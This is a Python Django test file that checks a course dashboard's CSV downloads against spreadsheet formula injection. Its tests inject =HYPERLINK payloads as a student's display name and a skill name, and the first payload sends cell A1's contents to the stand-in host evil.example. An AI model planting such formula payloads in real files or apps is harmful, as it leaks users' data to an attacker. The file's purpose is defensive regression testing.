"""CSV downloads found in a bug hunt: text people wrote must not become a spreadsheet formula."""

from __future__ import annotations

import csv
import io

from django.test import Client
from django.urls import reverse


def _download(course_data, table: str) -> str:
    """The course's ``table`` CSV as the teacher downloads it, decoded."""
    client = Client()
    client.force_login(course_data.world.teacher)
    response = client.get(reverse("dashboards:course-csv", args=[course_data.world.course.pk, table]))
    assert response.status_code == 200
    return response.content.decode("utf-8-sig")


def test_a_name_that_looks_like_a_formula_is_downloaded_as_text(course_data):
    # A student names themself so that a spreadsheet would run it when the teacher opens the CSV
    # (CSV injection, OWASP): the cell must start with a quote, not with "=".
    pupil = course_data.students[1]
    pupil.display_name = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    pupil.save()
    rows = list(csv.DictReader(io.StringIO(_download(course_data, "risk"))))
    cells = [value for row in rows for value in row.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "@")]
    assert "'" + pupil.display_name in cells
    # numbers stay numbers
    assert all(float(row["risk_pct"]) >= 0 for row in rows)


def test_a_skill_name_that_looks_like_a_formula_is_downloaded_as_text_in_the_header(course_data):
    # The mastery table has one column per skill, so a teacher's skill name is a header cell:
    # escaping only the body left it a formula.
    skill = course_data.skills[0]
    skill.name = '=HYPERLINK("https://evil.example","x")'
    skill.save()
    header = next(csv.reader(io.StringIO(_download(course_data, "mastery"))))
    assert not [c for c in header if c[:1] in ("=", "+", "-", "@")]
    assert "'" + skill.name in header
    assert header[:2] == ["student_id", "student"]
